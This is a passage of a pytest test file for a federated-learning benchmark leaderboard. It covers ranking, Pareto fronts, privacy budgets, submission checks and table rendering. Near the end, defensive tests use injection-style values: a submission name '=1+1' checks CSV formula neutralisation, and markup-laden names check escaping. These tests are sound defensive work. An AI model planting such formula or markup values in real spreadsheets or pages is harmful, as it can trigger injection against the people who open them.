    cheap = ranked(0.5, bits=2)
    beaten = ranked(0.8, bits=33)  # as many bits as good, less accurate
    every = [good, twin, cheap, beaten]
    front = {one.entry.id for one in ranking(every).standings if one.pareto}
    assert front == {one.id for one in (good, twin, cheap)}
    assert {one.entry.id for one in ranking(every).front().standings} == front
    close, far = ranked(0.4, bits=33, epsilon=2.0), ranked(0.8, bits=33, epsilon=9.0)
    private = {s.entry.id: s.pareto for s in ranking([close, far]).standings}
    assert private == {close.id: True, far.id: True}


def test_no_front_holds_chance_or_an_epsilon_that_promises_nothing() -> None:
    limits = Limits(chance=0.1, epsilon=10.0)
    guess, good = ranked(0.1, bits=0.5), ranked(0.8, bits=1)
    open_ = {s.entry.id: s.pareto for s in ranking([guess, good], limits=limits).standings}
    assert open_ == {guess.id: False, good.id: True}
    # One good seed of twelve: no resample is below 0.11, but Student's interval begins at 0.03.
    worst = with_interval([0.9] + [0.11] * 11, 0.95)
    assert worst.low > limits.chance
    lucky = guess.model_copy(update={"score": guess.score.model_copy(update={"worst": worst})})
    assert not any(s.pareto for s in ranking([lucky], limits=limits).standings)
    alone = with_interval([0.9], 0.95)  # a single seed has no such interval
    once = guess.model_copy(
        update={"seeds": [0], "score": good.score.model_copy(update={"worst": alone})}
    )
    assert not any(s.pareto for s in ranking([once], limits=limits).standings)
    huge, small = ranked(0.9, epsilon=174_000.0), ranked(0.8, epsilon=10.0)
    beaten = ranked(0.7, epsilon=10.0)
    standings = ranking([huge, small, beaten], limits=limits).standings
    private = {s.entry.id: (s.rank, s.pareto) for s in standings}
    assert private == {huge.id: (None, False), small.id: (1, True), beaten.id: (2, False)}


def test_two_entries_with_one_id_keep_their_own_scores() -> None:
    one, other = ranked(0.9), ranked(0.5)
    standings = ranking([one, other.model_copy(update={"id": one.id})]).standings
    assert [standing.score for standing in standings] == [one.score, other.score]


def promising(epsilon: float | None, mean: float, **promise: Any) -> Entry:
    claim = spent(epsilon).model_dump(include=set(Price.model_fields))
    price = Price.model_validate(claim | promise)
    return ranked(mean, epsilon=epsilon, price=price)


@pytest.mark.parametrize(
    ("promise", "compared"),
    [
        ({}, True),
        *((other, False) for other in ({"delta": 1e-6}, {"unit": "example"}, {"sees": "model"})),
        ({"adjacency": "add-remove"}, False),
    ],
)
def test_two_epsilons_compare_only_if_they_promise_the_same(
    promise: dict[str, Any], compared: bool
) -> None:
    groups = comparable_groups([promising(1.0, 0.6), promising(2.0, 0.5, **promise)])
    assert len(groups) == (1 if compared else 2)
    front = [one.pareto for group in groups for one in ranking(group).standings]
    assert front == [True, not compared]


def test_within_a_budget_an_entry_is_read_at_its_last_look() -> None:
    # signsgd: looks at 33 and 66 bits. Twice as many rounds would be 132.
    trusted = {"status": "replayed", "division": "open"}
    cheap, costly = (build(case(runs(up=up)), SAID).model_copy(update=trusted) for up in (1, 68))
    assert [total_bits(cheap), total_bits(costly)] == [66.0, 200.0]
    assert total_bits(entry(rounds=3)) == 99.0
    found = ranking([costly, cheap], "equal-bits")
    assert found.bits == 66.0
    first, last = found.standings
    assert (first.entry, first.score) == (cheap, cheap.score)
    # the first look of the other one is at 100
    assert (last.entry, last.score, last.rank, last.pareto) == (costly, None, None, False)
    later = {s.entry.id: s.score for s in ranking([costly, cheap], "equal-bits", 150.0).standings}
    early = later[costly.id]
    assert early is not None
    assert early.worst.mean == pytest.approx(0.3)  # half of 0.6, the first look
    assert early.clean.mean == pytest.approx(0.4)
    (alone,) = ranking([cheap], "equal-bits", 32.9).standings
    assert alone.score is None


def test_bits_of_a_score_are_a_mean_over_cells_and_a_budget_is_of_the_dearest_cell() -> None:
    assert (dear().score.uplink_bits, dear().score.downlink_bits) == (2.5, 32)
    assert total_bits(dear()) == 72.0
    contested = entry().model_copy(update={"status": "contested", "id": "0" * 12})
    trusted = dear().model_copy(update={"status": "replayed", "division": "open"})
    assert ranking([contested, trusted], "equal-bits").bits == 72.0
    assert ranking([contested], "equal-bits").bits == 66.0, "nobody is trusted"

    one = entry()
    no_look = score(one.cells, None, lambda cell: cell.accuracy if cell.impact else None)
    assert no_look is None, "a score needs a look in every cell"


# Rules, plans and schemas of the repository


@pytest.mark.parametrize("version", sorted(PUBLISHED))
def test_rules_name_attacks_that_fit_for_whatever_a_protocol_sends(version: int) -> None:
    rules = versions(BOARD)[version]
    for protocol in registry.names("protocol"):
        sends = registry.load("protocol", protocol).sends
        attacks = rules.attacks(sends.__name__)
        assert attacks[0] == "none"
        assert any(a.startswith(("dyn-opt", "auto")) for a in attacks), "an adaptive one"
        for attack in attacks:
            assert issubclass(sends, registry.load("attack", attack).accepts), (protocol, attack)
    for track in rules.track:
        assert len(track.seeds) >= rules.seeds == 5


@pytest.mark.parametrize("version", sorted(PUBLISHED))
def test_no_round_of_a_track_has_more_malicious_rows_than_are_declared(version: int) -> None:
    for track in versions(BOARD)[version].track:
        scenario = Scenario(**track.scenario)
        assert scenario.owned > 0
        assert cohorts.exceeds(scenario, cohorts.declared(scenario)) == 0, track.name


def test_a_plan_has_just_the_mandatory_cells() -> None:
    text = plan(versions(BOARD)[3], "digits", {"protocol": "fsl", "server_checks": "range"})
    sweep = Plan.of(tomllib.loads(text), "plan")
    cells, skipped = sweep.cells()
    assert skipped == []
    assert sweep.seeds == (0, 1, 2, 3, 4)
    assert [c.attack for c in cells] == list(versions(BOARD)[3].attacks("Rankings"))
    assert {(c.scenario.server_checks, c.scenario.malicious) for c in cells} == {("range", 0.1)}
    count = len(cells)
    head = f"# {count} attacks, the clean run included, x 5 seeds = {5 * count} runs"
    assert text.splitlines()[0] == head


def test_a_plan_has_the_seeds_and_the_scenario_of_its_track() -> None:
    far = TRACK_1 | {"name": "far", "seeds": [4, 7, 9, 11], "scenario": TRACK | {"rounds": 9}}
    rules = Rules.model_validate(RULES_1 | {"track": [TRACK_1, far]})
    sweep = Plan.of(tomllib.loads(plan(rules, "far", {"protocol": "signsgd"})), "plan")
    assert sweep.seeds == (4, 7, 9, 11)
    assert {each.scenario.rounds for each in sweep.cells()[0]} == {9}


def test_a_plan_that_cannot_be_is_refused() -> None:
    misfit = Rules.model_validate(RULES_1 | {"ensemble": {"SignBits": ["none", "rank-reversal"]}})
    bits = {"protocol": "fsl", "mechanism": "randomized-response"}
    for rules, track, system, message in (
        (RULES_OF, "cifar", {}, "--track must be one of tiny, got 'cifar'"),
        (RULES_OF, "tiny", {"protocol": "fls"}, "did you mean"),
        (versions(BOARD)[3], "digits", bits, "needs a protocol that sends bits"),
        (misfit, "tiny", {"protocol": "signsgd"}, r"must fit, got .*rank-reversal"),
        (misfit, "tiny", {"protocol": "fsl"}, "must name attacks on Rankings, .*got none"),
    ):
        with pytest.raises(ConfigError, match=message):
            plan(rules, track, system)


def test_records_find_their_track_by_their_data() -> None:
    assert infer(runs(), RULES_OF, "closed") == "tiny"
    twins = [TRACK_1 | {"name": "far", "scenario": TRACK | {"rounds": 9}}, TRACK_1]
    assert infer(runs(), Rules.model_validate(RULES_1 | {"track": twins}), "closed") == "tiny"
    assert infer(runs(dataset="mnist"), RULES_OF, "closed") == "mnist"
    assert infer(runs(), RULES_OF, "open") == "digits"


def test_records_are_judged_on_the_track_that_was_asked_for(board: Path) -> None:
    twins = [TRACK_1 | {"name": name} for name in ("near", "far")]
    (board / "rules" / "1.toml").write_text(tomli_w.dumps(RULES_1 | {"track": twins}))
    for track, judged in ((None, "near"), ("near", "near"), ("far", "far")):
        done = submit(runs(), SAID.model_dump(), board, "closed", track)
        assert done.entry is not None, done.findings
        assert done.entry.track == judged


def test_the_schemas_in_the_repository_are_current(tmp_path: Path, command: Command) -> None:
    assert command("leaderboard", "schema", "--out", tmp_path)[0] == 0
    written = {path.name: path.read_text() for path in tmp_path.iterdir()}
    for name, text in written.items():
        assert (BOARD / "schema" / name).read_text() == text, "run: fedbench leaderboard schema"
        assert json.loads(text)["additionalProperties"] is False
    assert set(written) == {path.name for path in (BOARD / "schema").glob("*.json")}
    assert set(json.loads(written["entry.json"])["required"]) == set(Entry.model_fields)


@pytest.mark.slow
def test_the_board_of_the_repository_is_good() -> None:
    checked = check(BOARD)
    assert {f.rule for one in checked for f in one.findings if f.severity == "error"} == set()


def test_every_rule_is_tried_here_and_explained() -> None:
    families = {name.partition(":")[0] for name in SOUND | RULES}
    tried = [rule if isinstance(rule, set) else {rule} for rule, *_ in WRONG.values()]
    assert families == {rule.partition(":")[0] for rules in tried for rule in rules}
    assert set(NOTICES) == set(DOUBTED)
    names = (
        families | set(NOTICES) | {"duplicate", "growth", "rules", "published", "season", "replays"}
    )
    names |= {name for rules, _ in TAMPERED.values() for name in rules}
    text = (BOARD / "README.md").read_text()
    assert {name for name in names if not re.search(f"`{name}[`:]", text)} == set()


# The command


def stored(folder: Path, records: list[Record]) -> str:
    for record in records:
        record.write(folder)
    return str(folder)


WHO = ("--name", "Majority", "--authors", "A. Uthor", "--tried", "3")


def test_submit_says_every_rule_that_is_broken_and_writes_nothing(
    board: Path, tmp_path: Path, leaderboard: Command
) -> None:
    out = stored(tmp_path / "store", [played("none", s, 0.3, rounds=3) for s in (0, 1)])
    bad = ("--name", "", "--authors", "x", "--tried", "0", "--link", "ftp://x")
    code, said, err = leaderboard("submit", out, *bad, "--board", board)
    assert (code, said) == (2, "")
    head, *lines = err.splitlines()
    assert head == "fedbench: 7 rules are broken, nothing is written"
    names = ["name", "link", "tried", "seeds", "seeds", "ensemble", "fixed: rounds", "envelope"]
    for line, name in zip(lines, names, strict=True):
        assert line.startswith(f"  {name}: ")
    assert not (board / "closed").exists()


def test_submit_writes_an_entry_that_check_finds_good_and_refuses_it_twice(
    board: Path, tmp_path: Path, leaderboard: Command
) -> None:
    out = stored(tmp_path / "store", runs())
    there = ("--board", board)
    code, said, _ = leaderboard("submit", out, *WHO, *there, "--dry-run")
    assert code == 0
    assert "would be" in said
    assert not (board / "closed").exists()
    code, said, _ = leaderboard("submit", out, *WHO, *there)
    assert code == 0
    (path,) = (board / "closed" / "tiny").glob("*.json")
    assert f"fedbench leaderboard render {board} && fedbench leaderboard check {board};" in said
    assert "worst case 60.0 [50.0, 70.0] %, under sign-flip" in said
    code, said, _ = leaderboard("check", "--own-rules", board)
    assert (code, "1 checked, 0 refused" in said.splitlines()) == (0, True)
    code, _, err = leaderboard("submit", out, *WHO, *there)
    assert code == 2
    assert path.name in err
    assert "--replace" in err
    again = ("--name", "Better name", *WHO[2:], "--replace")
    assert leaderboard("submit", out, *again, *there)[0] == 0
    assert not path.exists()
    assert not boards.archive(path).exists()
    (new,) = (board / "closed" / "tiny").glob("*.json")
    assert json.loads(new.read_text())["name"] == "Better name"


def pasted(text: str, start: str) -> list[str]:
    """Return the words that a shell reads in a line, from the command that begins so."""
    (line,) = [line for line in text.splitlines() if start in line]
    return shlex.split(line[line.index(start) :].replace(";", " ;"))


def test_a_command_that_is_suggested_can_be_pasted_where_a_folder_has_a_space(
    tmp_path: Path, leaderboard: Command
) -> None:
    board = with_rules(tmp_path / "a board")
    out = stored(tmp_path / "store", runs())
    _, said, _ = leaderboard("submit", out, *WHO, "--board", board)
    words = pasted(said, "fedbench leaderboard render")
    assert words[3:9] == [str(board), "&&", "fedbench", "leaderboard", "check", str(board)]
    _, said, _ = leaderboard("freeze", "s", "--source", "a coin", "--board", board)
    assert pasted(said, "leaderboard draw")[2:] == ["s", "--board", str(board), "--value"]
    (path,) = (board / "closed" / "tiny").glob("*.json")
    again = ("--by", "CI", "--out", tmp_path / "an out")
    code, _, err = leaderboard("reproduce", path, *again)
    assert code == 2
    assert pasted(err, "say --out")[1:] == ["--out", str(tmp_path / "an out")]


@pytest.mark.parametrize("verb", ["rank", "render", "check"])
def test_a_board_is_named_by_itself_or_as_an_option_and_not_by_both(
    verb: str, board: Path, tmp_path: Path, leaderboard: Command
) -> None:
    kept(board)
    assert leaderboard(verb, "--board", board) == leaderboard(verb, board)
    assert leaderboard(verb, board, "--board", tmp_path / "other") == (
        2,
        "",
        f"fedbench: --board must be left out beside {board}, got {tmp_path / 'other'}\n",
    )


def test_records_can_come_as_the_archive_of_an_entry(
    board: Path, tmp_path: Path, leaderboard: Command
) -> None:
    path = kept(board)
    other = with_rules(tmp_path / "other")
    packed = str(boards.archive(path))
    assert leaderboard("submit", packed, *WHO, "--board", str(other))[0] == 0
    (copy,) = (other / "closed" / "tiny").glob("*.json")
    new, old = (boards.read(file) for file in (copy, path))
    assert new.submitted == datetime.now(UTC).date().isoformat()
    said = {"id": old.id, "submitted": old.submitted}  # which named no day
    assert new.model_copy(update=said) == old


def test_check_exits_with_1_and_says_where_and_why(board: Path, leaderboard: Command) -> None:
    path = kept(board, name="[red]<b>x</b>")
    saying(True, cells__1__accuracy__mean=0.99)(path)
    (new,) = path.parent.glob("*.json")
    code, said, _ = leaderboard("check", str(new))
    assert code == 1
    assert "refused" in said
    assert "cells.1.accuracy.mean must be 0.6" in " ".join(said.split())
    told = json.loads(leaderboard("check", "--own-rules", board, "--format", "json")[1])
    (file,) = told["files"]
    assert (told["good"], file["path"]) == (False, new.relative_to(board).as_posix())
    assert {f["rule"] for f in file["findings"]} == {"numbers"}


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["check", "nowhere"], "nowhere must belong to a board"),
        (["check", "{board}/closed/gone.json"], "got nothing there"),
        (["check", "{board}", "--format", "xml"], "--format must be table or json"),
        (["rank", "nowhere"], "must be a board with rules"),
        (["rank", "{board}", "--track", "tiny"], "must have entries of that track, got none"),
        (["rank", "{board}", "--view", "bits"], "--view must be equal-rounds or equal-bits"),
        (["rank", "{board}", "--division", "half"], "--division must be closed or open"),
        (["plan", "--track", "tiny", "-p", "fslx", "--board", "{board}"], "did you mean"),
        (["submit", "{board}", *WHO, "--board", "{board}"], "must hold a record"),
        (["submit", "{board}", *WHO, "--division", "half"], "--division must be closed or open"),
        (["reproduce", "{board}", "--by", "CI"], "must be one entry of a board, got 0"),
        (["freeze", "A b", "--source", "x", "--board", "{board}"], "season name: string should"),
        (
            ["freeze", "a", "--source", "drand quicknet round 1000", "--board", "{board}"],
            "--source must be still to come, not of 2023-08-23 15:59 UTC",
        ),
        (["draw", "none", "--value", "0", "--board", "{board}"], "must be that of a season"),
        (["plan-ranking", "{board}"], "must be one entry of a board, got 0"),
    ],
)
def test_what_is_wrong_is_said_in_one_line(
    arguments: list[str], message: str, board: Path, leaderboard: Command
) -> None:
    code, _, err = leaderboard(*(word.format(board=board) for word in arguments))
    assert code == 2
    line = err.splitlines()[-1]
    assert line.startswith("fedbench: ")
    assert message in line


def test_a_name_with_markup_is_printed_as_it_is(
    board: Path, leaderboard: Command, monkeypatch: pytest.MonkeyPatch
) -> None:  # what else is printed: tests/frozen
    monkeypatch.setenv("COLUMNS", "140")
    kept(board, name="A [red]|<b>name</b>")
    assert found(board) == set()
    assert "A [red]|<b>name</b> (signsgd + vote)" in leaderboard("rank", board)[1]
    assert r"A \[red\]\|\<b\>name\</b\>" in leaderboard("rank", board, "--format", "md")[1]
    poor = leaderboard("rank", board, "--view", "equal-bits", "--bits", "4")[1]
    assert "n/a" in poor


def table(*entries: Entry) -> RankingTable:
    return RankingTable("closed", "tiny", ranking(entries), 1, {})


def test_a_price_that_is_not_finite_is_no_missing_mechanism_in_the_ranking() -> None:
    priced = promising(1.0, 0.6)
    unpriced = priced.model_copy(
        update={"score": priced.score.model_copy(update={"epsilon": None})}
    )
    places = table(priced), table(unpriced), table(unpriced.model_copy(update={"price": None}))
    shown = [dict(zip(HEADS, each.table().lines[0].texts, strict=True))["ε"] for each in places]
    assert shown == ["1.00", "unknown", "n/a"]


def test_a_name_is_no_formula_in_a_spreadsheet() -> None:
    one = promising(1.0, 0.6).model_copy(update={"name": "=1+1"})
    (row,) = csv.DictReader(io.StringIO(as_csv([table(one)])))
    assert row["name"] == "'=1+1"
    assert (row["unit"], row["sees"], row["adjacency"]) == ("client", "messages", "replace-one")
    assert float(row["delta"]) == 1e-5


@pytest.mark.parametrize("width", [80, 120])
def test_a_ranking_is_legible(width: int) -> None:
    console = Console(width=width, file=io.StringIO())
    with console.capture() as got:
        name = "Flipped in every round by very careful clients of one server"
        console.print(table(promising(1.0, 0.6, note="n").model_copy(update={"name": name})))
    text = got.get()
    assert max(map(len, text.splitlines())) <= width
    for whole in (*name.split(), "60.0 [", "replayed", "sign-flip", "worst case %"):
        assert whole in text
    assert ("clean %" in text) == (width == 120)
    assert "…" not in text


def test_a_ranking_names_the_promise_and_the_season_of_its_entries() -> None:
    entries = [ranked(0.6), promising(1.0, 0.6), in_season("2026-11", 0.6)]
    promise = "private systems (per client, replace-one, messages seen, δ = 1e-05)"
    assert [table(each).title for each in entries] == [
        "closed division, tiny: equal rounds",
        f"closed division, tiny, {promise}: equal rounds",
        "closed division, tiny, season 2026-11: equal rounds",
    ]
    within = RankingTable("closed", "tiny", ranking([entry()], "equal-bits", bits=100.0), 1, {})
    assert within.title == "closed division, tiny: within 100.00 bits per parameter"


def test_the_gap_has_a_column_where_any_entry_met_a_held_out_attack() -> None:
    met = ranked(0.8)
    other = ranked(0.7)
    lost = HeldOutResult("late", met.score.worst, with_interval([0.02, 0.03, 0.04], 0.95), "1")
    worse = replace(lost, attack="later", gap=lost.accuracy)
    held_out = {met.id: [lost, worse]}
    shown = RankingTable("closed", "tiny", ranking([met, other]), 1, held_out).table()
    headings = [column.heading for column in shown.columns]
    assert headings.index(GAP) == headings.index("worst case %") + 1
    texts = [line.texts[headings.index(GAP)] for line in shown.lines]
    assert texts == [gap(lost), "n/a"]
    assert gap(lost) == "+3.0 [+2.0, +4.0]"
    assert GAP not in [column.heading for column in table(met, other).table().columns]


def test_the_rows_of_a_ranking_have_all_numbers_of_a_score_or_none_without_one() -> None:
    one = promising(1.0, 0.6)
    score = one.score
    (row,) = table(one).rows()
    numbers: dict[str, Any] = {
        "worst": score.worst.mean,
        "low": score.worst.low,
        "high": score.worst.high,
    }
    numbers |= {"attack": score.attack, "area": score.area, "clean": score.clean.mean}
    numbers |= {"uplink_bits": 1.0, "downlink_bits": 0.0, "epsilon": 1.0}
    nothing = dict.fromkeys(("held_out", "gap", "gap_low", "gap_high"))
    assert {name: row[name] for name in numbers | nothing} == numbers | nothing
    (poor,) = RankingTable("closed", "tiny", ranking([entry()], "equal-bits", 0.5), 1, {}).rows()
    assert {name: poor[name] for name in numbers} == dict.fromkeys(numbers)
    assert (poor["bits"], row["bits"]) == (0.5, None)
